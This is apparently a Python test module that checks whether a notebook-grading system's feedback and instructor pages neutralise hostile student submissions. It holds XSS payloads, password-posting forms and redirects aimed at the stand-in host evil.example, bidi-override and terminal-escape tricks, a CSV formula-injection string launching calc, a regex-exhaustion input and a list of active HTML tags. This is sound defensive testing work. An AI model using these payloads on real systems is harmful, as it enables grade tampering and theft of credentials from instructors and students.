"""Attacks on who reads the results: active content in pages that students and instructors open."""

import base64
import contextlib
import csv
import json
import os
import re
import subprocess
import sys
import warnings
from html.parser import HTMLParser
from types import SimpleNamespace

import forked
import nbformat
from nbconvert import HTMLExporter
from nbgrader.api import Gradebook
from nbgrader.server_extensions.formgrader.handlers import template_path
from traitlets.config import Config, Configurable

from attacks.harness import TRIPLE_ONLY, Attack, Fault, Own, Plain, code, markdown, notebook, submission
from llmlab.grading.export import CheckedCsvExport
from llmlab.grading.feedback import feedback_page
from llmlab.grading.graded import graded_notebook
from llmlab.grading.notebooks import read_cells

ACTIVE = {"script", "iframe", "frame", "object", "embed", "form", "base", "link", "style", "meta", "svg", "math", "template", "audio", "video"}  # fmt: skip
ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "srcdoc", "data", "poster", "background", "ping"}
HARMLESS_ADDRESS = re.compile(
    r"https?://|#|/|\.|data:image/png;base64,[A-Za-z0-9+/=]+$|(?![a-z][a-z0-9+.-]*:)", re.IGNORECASE
)


class Active(HTMLParser):
    """What of a page does something: active elements with their content, handlers, addresses that are no web page's."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.found, self._inside = set(), ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self._inside = tag if tag in ("script", "style") else ""
        if tag in ACTIVE:
            self.found.add((tag, *attributes))
        for name, value in attributes:
            address = re.sub(r"[\x00-\x20]", "", value or "")  # as browsers do
            if name.startswith("on") or (name in ADDRESSES and not HARMLESS_ADDRESS.match(address)):
                self.found.add((tag, name, value))
            if name == "style" and re.search(r"url|expression|position|import", value or "", re.IGNORECASE):
                self.found.add((tag, name, value))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        if self._inside:
            self.found.add((self._inside, data))

    def handle_endtag(self, tag):
        self._inside = ""


def render(page, template="formgrade"):
    """A notebook as nbgrader's formgrader shows it."""
    config = Config()
    config.HTMLExporter.template_name = template
    config.HTMLExporter.extra_template_basedirs = [template_path]
    shown = {
        "assignment_id": "toy", "notebook_id": "toy", "submission_id": "1", "index": 0, "total": 1, "base_url": "",
        "student": "student", "last_name": "", "first_name": "", "notebook_path": "toy.ipynb",
    }  # fmt: skip
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return HTMLExporter(config=config).from_notebook_node(page, resources=shown)[0]


def pages(result, ground):
    """What the student is sent, and what the instructor sees."""
    return feedback_page(result), render(graded_notebook(result, read_cells(ground.instructor.encode())))


def nothing_active(result, ground):
    """Nothing does anything that does not on the pages of the same result without a cell."""
    for page, bare in zip(pages(result, ground), pages({**result, "cells": []}, ground), strict=True):
        assert Active(page).found <= Active(bare).found


def contained(result, ground):
    assert result["score"] == TRIPLE_ONLY
    nothing_active(result, ground)


def with_cells(*cells):
    return notebook([*json.loads(submission())["cells"], *cells])


def showing(data, metadata=None):
    """A cell that shows something."""
    return code(f"from IPython.display import display\ndisplay({data!r}, raw=True, metadata={metadata!r})")


def shows(data):
    return with_cells(showing(data))


SCRIPT = "<script>parent.grade = 100</script>"
HANDLER = "<img src=x onerror=alert(1)>"
# Where the override stands, letters run from right to left: "7 # 2 * n" reads otherwise than it runs.
OVERRIDE = "\u202e\u2066"
OVERRIDDEN = code(f"seven = 7 #{OVERRIDE} n * 2\nprint('{OVERRIDE}stniop 001')")
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
# A cell, and a pattern that is in a page where the attack works: an element, an attribute, an address.
ON_PAGES = {
    "a script in markdown": (markdown(f"# Answer\n\n{SCRIPT}"), r"<script>parent\.grade"),
    "a drawing with a handler": (
        markdown('<svg onload="alert(1)"><circle r="9"/></svg>'), r"<svg[^>]* onload=",
    ),
    "a frame with a page in its own address": (
        markdown('<iframe src="data:text/html;base64,PHNjcmlwdD4x"></iframe>'), r"<iframe[^>]* src=.data:text/html",
    ),
    "a page that sends its reader away": (
        markdown('<meta http-equiv="refresh" content="0; url=//evil.example">'), r"<meta[^>]* http-equiv=.refresh",
    ),
    "a form that asks for a password and posts it": (
        markdown('<form action="//evil.example" method="post"><input name="password"><button>Go</button></form>'),
        r"<form[^>]* action=.//evil",
    ),
    "a style sheet that hides a page and calls home": (
        markdown("<style>body { display: none; background: url(//evil.example) }</style>"),
        r"<style>body \{ display: none",
    ),
    "an address that all links of the page go by": (
        markdown('<base href="//evil.example/">'), r"<base[^>]* href=.//evil",
    ),
    "a link to javascript": (markdown("[my proof](javascript:alert(1))"), r"<a[^>]* href=.javascript:"),
    "a formula with a link to javascript": (
        markdown(r"$\href{javascript:alert(1)}{6/6}$"), r"<p>\$\\href\{javascript:",
    ),
    "a diagram that is clicked": (
        markdown('```mermaid\ngraph TD\nA-->B\nclick A href "javascript:alert(1)"\n```'), r'class="mermaid">\s*graph',
    ),
    "a picture elsewhere that tells who looks": (
        markdown("![proof](https://evil.example/seen.png)"), r"<img[^>]* src=.https://evil",
    ),
    "a sheet over the page that shows another score": (
        markdown('<div style="position: fixed; inset: 0; background: white"><h4>Score: 6.0 / 6.0</h4></div>'),
        r"<div[^>]* style=.position: ?fixed",
    ),
    "a heading that looks like nbgrader's": (
        markdown('</div></div><div class="panel-heading"><h4>toy (Score: 6.0 / 6.0)</h4></div>'),
        r'<div class="panel-heading"><h4>toy \(Score: 6\.0 / 6\.0\)',
    ),
    "a tag of a cell that closes the attribute": (
        {**code("1"), "metadata": {"tags": ["x' onmouseover='alert(1)"]}}, r"celltag_x' onmouseover='alert",
    ),
    "JavaScript that a cell shows": (
        showing({"application/javascript": "alert('shown')"}), r"<script[^>]*>[^<]*alert\('shown'\)",
    ),
    "HTML that a cell shows": (showing({"text/html": HANDLER}), r"<img[^>]* onerror=.?alert"),
    "markdown that a cell shows": (
        showing({"text/markdown": "<script>parent.passed = true</script>"}), r"<script>parent\.passed",
    ),
    "a picture whose width brings a handler": (
        showing({"image/png": PIXEL}, {"image/png": {"width": "1 onload=alert(1)"}}), r"<img[^>]* onload=.?alert",
    ),
    "a score in a terminal's colours": (
        code(r"print('\x1b[1;32mScore: 6.0 / 6.0\x1b[0m')"), r'<span class="ansi-green[^>]*>Score: 6\.0',
    ),
    "text that runs from right to left": (OVERRIDDEN, f"[{OVERRIDE}]"),
}  # fmt: skip
TOGETHER = with_cells(*(cell for cell, _ in ON_PAGES.values()))


def page_attack(name, cell, mark):
    text = with_cells(cell)

    def is_on_page(graded, ground):
        assert re.search(mark, graded.page), graded.page[-3000:]

    def is_on_no_page(result, ground):
        contained(result, ground)
        for page in pages(result, ground):
            assert not re.search(mark, page)

    return Attack("feedback", name, lambda ground: text, is_on_no_page, Plain(is_on_page, text=TOGETHER))


# What is Markdown for a link to some readers of it only; on our pages all of it is text.
LINKS = {
    "of a definition": "[my proof][p]\n\n[p]: <JavaScript:alert(1)> 'proof'",
    "to a page in its own address": "[my proof](data:text/html;base64,PHNjcmlwdD4x)",
    "with a backslash before the colon": r"[my proof](javascript\:alert(1))",
    "broken between lines of a quotation": "> [my proof](\n> javascript:alert(1))",
    "of a definition broken between lines": "> [p]:\n> javascript:alert(1)\n\n[p]",
    "with a letter by its number": "[my proof](j&#97;vascript:alert(1))",
    "with a colon by its name": "[my proof](javascript&colon;alert(1))",
}


SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PICTURE = {"image/png": base64.b64encode(SVG.encode()).decode() + '"><script>alert(1)</script><img src="'}
ACTIVE_OUTPUT = {"text/html": SCRIPT, "application/javascript": "alert(1)", "image/svg+xml": SVG}
PRINTED = submission(before=f"print({SCRIPT!r})", after=f"import sys\nprint({HANDLER!r}, file=sys.stderr)")
NAMED = submission(after=f"raise type({SCRIPT!r}, (Exception,), {{}})({HANDLER!r})")
RETURNED = submission(f"def double(n):\n    return {SCRIPT!r}")
RAISED = submission(f"def double(n):\n    raise type({SCRIPT!r}, (Exception,), {{}})({HANDLER!r})")
OBJECT = submission(f"class Odd:\n    def __repr__(self): return {SCRIPT!r}\n\nOdd.__qualname__ = {HANDLER!r}\n\ndef double(n):\n    return Odd()")  # fmt: skip
SOURCE = submission(f"def double(n):\n    '''</code></pre>{SCRIPT}</script>'''\n    return 7  # {HANDLER}")
MEASURED = submission(before=f"""
from llmlab.grading.checks import measured
measured({SCRIPT!r}, 1, 2, {HANDLER!r})
""")  # fmt: skip


def shown_somewhere(text_shown):
    """The text is on the student's page, as text."""

    def check(result, ground):
        contained(result, ground)
        assert text_shown in Text(feedback_page(result)).text

    return check


class Text(HTMLParser):
    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.text = ""
        self.feed(page)
        self.close()

    def handle_data(self, data):
        self.text += data


def measured_contained(result, ground):
    contained(result, ground)
    assert result["measurements"][0]["name"] == SCRIPT


ESCAPES = "\x1b]0;title\x07\x1b[2J\x1b]8;;javascript:alert(1)\x1b\\100 points\x1b]8;;\x1b\\\x1b[8m\x9b31m\x08\x08\r"
ESCAPED = submission(f"def double(n):\n    return {ESCAPES!r}", before=f"print({ESCAPES!r})\nraise ValueError({ESCAPES!r})")  # fmt: skip


def escapes_contained(result, ground):
    contained(result, ground)
    notebook_file = nbformat.v4.writes(graded_notebook(result, read_cells(ground.instructor.encode())))
    for text in (feedback_page(result), notebook_file):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)


STUDENT = f'"><{HANDLER[1:]}</title>{SCRIPT}'


def student_contained(result, ground):
    nothing_active({**result, "student": STUDENT}, ground)


FORMULAS = ("=cmd|' /C calc'!A0", "+1+cmd", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1")


def students_in(file):
    with file.open(newline="") as handle:
        return [row["student_id"] for row in csv.DictReader(handle)]


@contextlib.contextmanager
def gradebook_of_formulas(ground):
    with Gradebook(f"sqlite:///{ground.folder}/gradebook.db") as gradebook:
        gradebook.add_assignment("toy")
        for formula in FORMULAS:
            gradebook.add_student(formula)
        yield gradebook


def formulas_contained(result, ground):
    parent, file = Configurable(), ground.folder / "grades.csv"
    parent.coursedir = SimpleNamespace(root=str(ground.folder), submitted_directory="submitted")
    with gradebook_of_formulas(ground) as gradebook:
        CheckedCsvExport(parent=parent, to=str(file)).export(gradebook)
    assert len(students_in(file)) == len(FORMULAS)
    assert not [student for student in students_in(file) if student[:1] in tuple("=+-@\t\r")]


def formulas_bite(ground):
    """Plain nbgrader's own export."""
    with gradebook_of_formulas(ground):
        pass
    done = forked.run("nbgrader", "export", "--to=plain.csv", cwd=ground.folder, env=os.environ)
    assert done.returncode == 0, done.stderr
    assert "=cmd|' /C calc'!A0" in students_in(ground.folder / "plain.csv")


# nbconvert raises on a picture that is not attached: there is no feedback at all.
UNATTACHED = with_cells(markdown(r"![a picture](attachment\:picture.png)"))


# A hundred thousand blanks where a link's target may follow: a pattern that tries each way of splitting them never ends.
BLANKS = with_cells(markdown("[p]:" + " " * 100_000))
PAGES = """
import json, sys
from llmlab.grading.feedback import feedback_page
from llmlab.grading.graded import graded_notebook
result = json.load(sys.stdin)
feedback_page(result), graded_notebook(result, [])
"""


def blanks_contained(result, ground):
    assert result["score"] == TRIPLE_ONLY
    subprocess.run([sys.executable, "-c", PAGES], input=json.dumps(result).encode(), timeout=60, check=True)


def has_no_page(graded, ground):
    assert graded.score == TRIPLE_ONLY
    assert not graded.page


ATTACKS = [
    *(page_attack(name, *what) for name, what in ON_PAGES.items()),
    Attack("feedback", "a picture that is not attached", lambda g: UNATTACHED, contained, Plain(has_no_page)),
    Attack("feedback", "formulas in students' ids", lambda g: submission(), formulas_contained, Own(formulas_bite)),
]
FAULTS = [
    *(Fault(f"a link to javascript {how}", lambda g, link=link: with_cells(markdown(link)), contained) for how, link in LINKS.items()),
    Fault("frames and objects", lambda g: with_cells(markdown('<object data="x.swf"></object>\n<embed src="x">')), contained),
    Fault("HTML in a diagram", lambda g: with_cells(markdown(f"```mermaid\ngraph TD\n{SCRIPT}\n```")), contained),
    Fault("a picture that is none", lambda g: shows(PICTURE), contained),
    Fault("outputs of HTML, JavaScript and SVG at once", lambda g: shows(ACTIVE_OUTPUT), contained),
    Fault("HTML that a cell prints", lambda g: PRINTED, shown_somewhere(HANDLER)),
    Fault("HTML in the name of an error", lambda g: NAMED, shown_somewhere(SCRIPT)),
    Fault("HTML in a returned value", lambda g: RETURNED, shown_somewhere(SCRIPT)),
    Fault("HTML in what an answer raises", lambda g: RAISED, shown_somewhere(SCRIPT)),
    Fault("HTML in an object's repr and type", lambda g: OBJECT, shown_somewhere(SCRIPT)),
    Fault("HTML that closes the element around the code", lambda g: SOURCE, shown_somewhere(SCRIPT)),
    Fault("HTML in the name of a measurement", lambda g: MEASURED, measured_contained),
    Fault("escape codes for a terminal", lambda g: ESCAPED, escapes_contained),
    Fault("HTML in a student's id", lambda g: submission(), student_contained),
    Fault("a hundred thousand blanks in a link", lambda g: BLANKS, blanks_contained),
]  # fmt: skip
